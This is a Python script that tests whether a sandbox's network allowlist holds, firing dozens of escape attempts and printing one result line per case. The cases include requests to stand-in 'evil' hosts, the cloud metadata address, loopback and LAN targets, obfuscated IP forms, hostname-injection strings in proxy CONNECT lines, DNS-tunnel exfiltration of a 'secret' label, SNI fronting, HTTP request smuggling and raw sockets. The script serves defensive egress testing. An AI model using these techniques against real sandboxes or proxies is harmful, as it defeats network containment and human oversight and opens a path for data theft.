#!/usr/bin/python3
"""probe.py: try every way out; one line "CASE RESULT" each. Run inside a sandbox whose plan allows
web.example.com (80, 443), *.wild.example.com, and nothing else; and outside as the control.
RESULT begins with "got" when an answer came from outside, else it says how the attempt ended."""
import errno
import os
import socket
import struct
import sys
import time

WEB, EVIL, LAN, META = "93.184.216.34", "93.184.216.66", "10.20.0.5", "169.254.169.254"
only = sys.argv[1:]


def how(e):
    if isinstance(e, socket.timeout):
        return "timeout"
    if isinstance(e, socket.gaierror):
        return "no-name"
    return errno.errorcode.get(e.errno, str(e)) if isinstance(e, OSError) else type(e).__name__


def talk(host, port, send=b"", family=socket.AF_UNSPEC, timeout=4, until=None):
    try:
        info = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0]
        s = socket.socket(info[0], socket.SOCK_STREAM)
        s.settimeout(timeout)
        s.connect(info[4])
        if send:
            s.sendall(send)
        data = b""
        while until is None or until not in data:
            d = s.recv(65536)
            if not d:
                break
            data += d
            if until is None and len(data) > 20:
                break
        return b"got " + data if data else b"closed"
    except OSError as e:
        return how(e).encode()


def get(host, port=80, name=None, path="/who", **k):
    return talk(host, port, b"GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path.encode(), (name or host).encode()), until=b"\n\r\n\r\n", **k)


def raw_http(data, port=80, host=WEB, n=1):
    """Send bytes over a connection that was dialled by name: web.example.com."""
    try:
        s = socket.create_connection(("web.example.com", port), 4)
        s.settimeout(2)
        s.sendall(data)
        out = b""
        try:
            while True:
                d = s.recv(65536)
                if not d:
                    break
                out += d
        except OSError as e:
            out += b" " + how(e).encode()
        return b"got " + out if b"HTTP/1." in out else b"closed " + out
    except OSError as e:
        return how(e).encode()


def proxy(data, port=3128):
    return talk("127.0.0.1", port, data, timeout=3)


def connect(authority):
    return proxy(b"CONNECT " + authority + b" HTTP/1.1\r\nHost: " + authority + b"\r\n\r\n")


def udp(addr, port, data=b"x" * 40):
    try:
        s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        t = time.time()
        s.connect((addr, port))
        s.send(data)
        try:
            return b"got " + s.recv(4096)
        except OSError as e:
            return how(e).encode() + (b" at-once" if time.time() - t < 0.05 else b" late")
    except OSError as e:
        return how(e).encode()


def dns(name, qtype=1, server="127.0.0.1", tcp=False, raw=None, port=53):
    q = raw
    if q is None:
        q = struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 1)
        q += b"".join(bytes([len(x)]) + x for x in name.split(b".") if x) + b"\0" + struct.pack(">HH", qtype, 1)
        q += b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0)
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
        s.settimeout(2)
        s.connect((server, port))
        s.sendall(struct.pack(">H", len(q)) + q if tcp else q)
        r = s.recv(4096)
        if tcp:
            r = r[2:]
        if len(r) < 12:
            return b"closed" if not r else b"got short answer"
        return b"rcode=%d answers=%d %s" % (r[3] & 15, struct.unpack(">H", r[6:8])[0], b"ede" if b"sendbox" in r else b"")
    except OSError as e:
        return how(e).encode()


def hello(sni=None, split=0, ech=False, host="web.example.com", port=443, pad=0):
    """A ClientHello made by hand; got = the server answered with its own hello or an alert of its."""
    ext = b""
    if sni is not None:
        n = sni.encode("latin-1")
        ext += struct.pack(">HHHBH", 0, len(n) + 5, len(n) + 3, 0, len(n)) + n
    ext += struct.pack(">HH", 10, 4) + b"\0\2\0\x17"
    ext += struct.pack(">HH", 11, 2) + b"\1\0"
    ext += struct.pack(">HH", 13, 8) + b"\0\6\4\3\4\1\2\1"
    if ech:
        body = b"\0\0\1\0\1\7\0\x20" + os.urandom(32) + b"\0\x90" + os.urandom(0x90)
        ext += struct.pack(">HH", 0xfe0d, len(body)) + body
    if pad:
        ext += struct.pack(">HH", 21, pad) + bytes(pad)
    body = b"\3\3" + os.urandom(32) + b"\0" + b"\0\6\xc0\x2b\xc0\x2c\x00\xff" + b"\1\0" + struct.pack(">H", len(ext)) + ext
    hs = b"\1" + struct.pack(">I", len(body))[1:] + body
    out = b""
    step = split or 16000
    for i in range(0, len(hs), step):
        part = hs[i:i + step]
        out += b"\x16\3\1" + struct.pack(">H", len(part)) + part
    r = talk(host, port, out, timeout=4)
    if r.startswith(b"got \x15\3") and len(r) == 11:
        return b"alert %d" % r[10]
    return b"got server-hello" if r.startswith(b"got \x16") else r


CASES = {}


def case(*names):
    def f(fn):
        for n in names:
            CASES[n] = fn
        return fn
    return f


CASES.update({
    "ok-http": lambda: get("web.example.com"),
    "ok-v6only-name-denied": lambda: get("six.example.com"),
    "ok-wild": lambda: get("a.b.wild.example.com"),
    "N01": lambda: get(EVIL),
    "N01-web-by-address": lambda: get(WEB),
    "N01-v6": lambda: get("2606:2800:220:1::34", name="[2606:2800:220:1::34]"),
    "N04": lambda: get(EVIL, name="web.example.com"),
    "N06-int": lambda: get("1572395074"),
    "N06-hex": lambda: get("0x5d.0xb8.0xd8.0x42"),
    "N06-short": lambda: get("93.12113986"),
    "N06-connect": lambda: connect(b"1572395074:80"),
    "N06-connect-oct": lambda: connect(b"0135.0270.0330.0102:80"),
    "N09": lambda: get(META),
    "N09-name": lambda: get("meta.example.com"),
    "N09-connect": lambda: connect(b"169.254.169.254:80"),
    "N09-v6": lambda: get("fd00:ec2::254", name="[fd00:ec2::254]"),
    "N10-lan": lambda: get(LAN),
    "N10-cgnat": lambda: get("100.64.9.9"),
    "N10-ula": lambda: get("fd12:3456::5", name="x"),
    "N10-mapped": lambda: connect(b"[::ffff:10.20.0.5]:80"),
    "N11-self": lambda: talk("45.33.32.1", 8888),
    "N11-loop": lambda: talk("127.0.0.1", 5432),
    "N11-connect-loop": lambda: connect(b"127.0.0.1:5432"),
    "N11-connect-localhost": lambda: connect(b"localhost:5432"),
    "N11-host-name": lambda: talk("host.sendbox.internal", 5432),
    "N12-loop": lambda: talk("loop.wild.example.com.", 5432),
    "N15-dot": lambda: get("web.example.com.", name="web.example.com"),
    "N15-case": lambda: get("WEB.Example.COM", name="WEB.Example.COM"),
    "N17-prefix": lambda: connect(b"evilweb.example.com:80"),
    "N17-suffix": lambda: connect(b"web.example.com.evil.example.net:80"),
    "N18-apex": lambda: get("wild.example.com"),
    "N20-nul": lambda: connect(b"evil.example.net\0.wild.example.com:80"),
    "N20-tab": lambda: connect(b"web.example.com\t.evil.example.net:80"),
    "N20-semi": lambda: connect(b"web.example.com;evil.example.net:80"),
    "N20-hash": lambda: connect(b"evil.example.net#.wild.example.com:80"),
    "N20-quote": lambda: connect(b"'web.example.com':80"),
    "N20-backslash": lambda: connect(b"evil.example.net\\.wild.example.com:80"),
    "N21-socks5": lambda: proxy(b"\5\1\0") and proxy(b"\5\1\0" + b"\5\1\0\3" + bytes([33]) + b"evil.example.net\0.wild.example.com"[:33] + b"\0\x50"),
    "N22-user": lambda: connect(b"web.example.com@evil.example.net:80"),
    "N22-userport": lambda: connect(b"web.example.com:80@evil.example.net:80"),
    "N22-host": lambda: raw_http(b"GET /who HTTP/1.1\r\nHost: web.example.com:x@evil.example.net\r\nConnection: close\r\n\r\n"),
    "N23-22": lambda: connect(b"web.example.com:2222"),
    "N23-7": lambda: talk("web.example.com", 7, b"hello there, this is more than twenty"),
    "N24-0": lambda: connect(b"web.example.com:0"),
    "N24-65616": lambda: connect(b"web.example.com:65616"),
    "N24-080": lambda: connect(b"web.example.com:080"),
    "N24-space": lambda: connect(b"web.example.com: 80"),
    "N24-plus": lambda: connect(b"web.example.com:+80"),
    "N25": lambda: connect(b"[2606:2800:220:1::34]:80"),
    "N25-bare": lambda: connect(b"2606:2800:220:1::34:80"),
    "N26-quic": lambda: udp(WEB, 443),
    "N26-quic-v6": lambda: udp("2606:2800:220:1::34", 443),
    "N26-doq": lambda: udp("8.8.8.8", 853),
    "N26-mdns": lambda: udp(WEB, 5353),
    "N26-ntp": lambda: udp("8.8.8.8", 123),
    "N31": lambda: connect(b"evil.example.net:80"),
    "N32-ssh": lambda: talk("web.example.com", 443, b"SSH-2.0-probe\r\n" * 3),
    "N32-http": lambda: get("web.example.com", port=443),
    "D01": lambda: dns(b"c2VjcmV0.evil.example.net"),
    "D01-long": lambda: dns(b"a" * 60 + b"." + b"b" * 60 + b".evil.example.net"),
    "D02-txt": lambda: dns(b"x.evil.example.net", 16),
    "D02-any": lambda: dns(b"web.example.com", 255),
    "D02-null": lambda: dns(b"web.example.com", 10),
    "D02-https": lambda: dns(b"web.example.com", 65),
    "D02-txt-allowed-name": lambda: dns(b"web.example.com", 16),
    "D03-udp": lambda: dns(b"x.evil.example.net", server="8.8.8.8"),
    "D03-tcp": lambda: dns(b"x.evil.example.net", server="8.8.8.8", tcp=True),
    "D04-dot": lambda: talk("8.8.8.8", 853, b"hello there, this is more than twenty"),
    "D04-doh": lambda: hello("dns.google", host="8.8.8.8"),
    "D05-cname": lambda: get("ccevil.example.com"),
    "D06-short": lambda: dns(b"", raw=b"\0" * 5),
    "D06-two": lambda: dns(b"", raw=b"\0\1\1\0\0\2\0\0\0\0\0\0\3web\7example\3com\0\0\1\0\1\3web\7example\3com\0\0\1\0\1"),
    "D06-loop": lambda: dns(b"", raw=b"\0\1\1\0\0\1\0\0\0\0\0\0\xc0\x0c\0\1\0\1"),
    "D06-opcode": lambda: dns(b"", raw=b"\0\1\x29\0\0\1\0\0\0\0\0\0\3web\7example\3com\0\0\1\0\1"),
    "D06-trailing": lambda: dns(b"", raw=b"\0\1\1\0\0\1\0\0\0\0\0\0\3web\7example\3com\0\0\1\0\1junk"),
    "D06-big": lambda: dns(b"", raw=b"\xff" * 65000, tcp=True),
    "H01": lambda: hello("web.example.com", host=EVIL),
    "H02-front": lambda: hello("api.example.com"),
    "H03-nosni": lambda: hello(None),
    "H03-fragments": lambda: hello("api.example.com", split=7),
    "H03-big": lambda: hello("api.example.com", pad=40000),
    "H03-ech": lambda: hello("web.example.com", ech=True),
    "H03-nul": lambda: hello("web.example.com\0.evil.example.net"),
    "H05": lambda: raw_http(b"GET http://evil.example.net/who HTTP/1.1\r\nHost: web.example.com\r\nConnection: close\r\n\r\n"),
    "H06": lambda: raw_http(b"GET /who HTTP/1.1\r\nHost: web.example.com\r\n\r\nGET /who HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n"),
    "H07": lambda: talk("127.0.0.1", 3128, b"GET http://web.example.com/who HTTP/1.1\r\nHost: web.example.com\r\n\r\n"
                        b"GET http://evil.example.net/who HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n", until=b"evil"),
    "H19": lambda: raw_http(b"GET /who HTTP/1.1\r\nHost: web.example.com\r\nConnection: close, host\r\n\r\n"),
    "H08-cl-te": lambda: raw_http(b"POST /x HTTP/1.1\r\nHost: web.example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    "H08-two-cl": lambda: raw_http(b"POST /x HTTP/1.1\r\nHost: web.example.com\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcd"),
    "H08-chunked2": lambda: raw_http(b"POST /x HTTP/1.1\r\nHost: web.example.com\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n"),
    "H08-plus": lambda: raw_http(b"POST /x HTTP/1.1\r\nHost: web.example.com\r\nContent-Length: +4\r\n\r\nabcd"),
    "H09-lf": lambda: raw_http(b"GET /who HTTP/1.1\nHost: web.example.com\n\n"),
    "H09-fold": lambda: raw_http(b"GET /who HTTP/1.1\r\nHost: web.example.com\r\nX: a\r\n b\r\n\r\n"),
    "H09-colon": lambda: raw_http(b"GET /who HTTP/1.1\r\nHost : web.example.com\r\n\r\n"),
    "H09-nul": lambda: raw_http(b"GET /who HTTP/1.1\r\nHost: web.example.com\r\nX: a\0b\r\n\r\n"),
    "H13-h2c": lambda: raw_http(b"GET /who HTTP/1.1\r\nHost: web.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"),
    "H13-prior": lambda: raw_http(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "H20": lambda: raw_http(b"POST /x HTTP/1.1\r\nHost: evil.example.net\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\n"),
    "H23-bind": lambda: proxy(b"\5\1\0\5\2\0\1\x5d\xb8\xd8\x22\0\x50"),
    "H23-udp": lambda: proxy(b"\5\1\0\5\3\0\1\x5d\xb8\xd8\x22\0\x50"),
    "H23-socks4": lambda: proxy(b"\4\1\0\x50\x5d\xb8\xd8\x42me\0"),
    "H24-head": lambda: raw_http(b"GET /who HTTP/1.1\r\nHost: web.example.com\r\nX: " + b"a" * 200000 + b"\r\n\r\n"),
})


@case("N27-raw", "N27-packet", "N27-ping")
def nothing():
    return b""


def raw_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(1)
    s.sendto(struct.pack(">BBHHH", 8, 0, 0xf7fd, 1, 1), (WEB, 0))
    while True:
        d = s.recv(200)
        if d[20] == 0:
            return b"got echo from " + socket.inet_ntoa(d[12:16]).encode()


def packet_socket():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    names = [i[1] for i in socket.if_nameindex() if i[1] != "lo"]
    if not names:
        return b"only-lo"
    s.bind((names[0], 0x800))
    s.send(b"\xff" * 12 + b"\x08\x00" + bytes(50))
    return b"got sent on " + names[0].encode()


def ping_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(1)
    s.sendto(struct.pack(">BBHHH", 8, 0, 0xf7fd, 1, 1), (WEB, 0))
    return b"got " + s.recv(100)[:4]


CASES["N27-raw"], CASES["N27-packet"], CASES["N27-ping"] = raw_socket, packet_socket, ping_socket

for name, fn in CASES.items():
    if only and name not in only and not any(o.endswith("*") and name.startswith(o[:-1]) for o in only):
        continue
    try:
        r = fn()
    except OSError as e:
        r = how(e).encode()
    except Exception as e:  # the rest must still run
        r = repr(e).encode()
    print(name, "".join(chr(b) if 32 <= b < 127 else "." for b in r[:200]), flush=True)
